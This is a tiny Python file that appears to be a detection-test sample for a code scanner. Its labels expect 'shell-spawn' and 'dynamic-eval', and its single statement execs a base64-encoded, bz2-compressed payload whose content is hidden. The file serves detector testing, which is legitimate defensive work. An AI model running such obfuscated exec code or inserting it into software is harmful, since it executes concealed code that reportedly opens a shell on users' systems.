# expect: shell-spawn,dynamic-eval
# source: issue 4
# technique: exec of bz2.decompress output
import base64, bz2

exec(bz2.decompress(base64.b64decode("QlpoOTFBWSZTWRWXINYAAAzbgAAQQOUAAkQAHmfeACAAQNU9TEPJqAPJ6oUAA0DJkVnTHG33Ta+vuRIjOMSFby7qhEK5IoKFwVCO1Qn4u5IpwoSArLkGsA==")))
